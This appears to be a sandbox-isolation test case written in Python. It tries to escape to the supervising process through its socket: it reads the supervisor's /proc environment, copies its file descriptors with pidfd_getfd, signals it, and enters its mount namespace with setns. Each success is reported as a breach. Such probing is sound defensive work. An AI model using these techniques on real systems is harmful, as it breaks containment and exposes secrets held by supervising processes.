# case: 24, 50, 51
# title: takes hold of the supervisor by the socket that leads to it, to copy its open files and to stop it
# mode: train
# expect: OK
# protects: reading
import ctypes
import os
import socket
import struct

import nsml

import harmless

SO_PEERPIDFD, PIDFD_GETFD, PIDFD_SEND_SIGNAL, SETNS = 77, 438, 424, 308


def train():
    libc, connection = ctypes.CDLL(None, use_errno=True), nsml._platform._connection._socket
    process, _, _ = struct.unpack('3i', connection.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
    if process > 0 and os.path.exists('/proc/%d/environ' % process):
        harmless.look('/proc/%d/environ' % process)
    try:
        handle = struct.unpack('i', connection.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD, 4))[0]
    except OSError as refused:
        print(refused)
        return
    for number in range(16):
        if libc.syscall(PIDFD_GETFD, handle, number, 0) >= 0:
            harmless.breach('descriptor %d of the supervisor' % number)
    if libc.syscall(PIDFD_SEND_SIGNAL, handle, 0, None, 0) == 0:
        harmless.breach('signals to the supervisor')
    if platform_is_x86() and libc.syscall(SETNS, handle, 0x20000) == 0:
        harmless.breach('the mounts of the supervisor')


def platform_is_x86():
    return os.uname().machine == 'x86_64'


harmless.run(train)
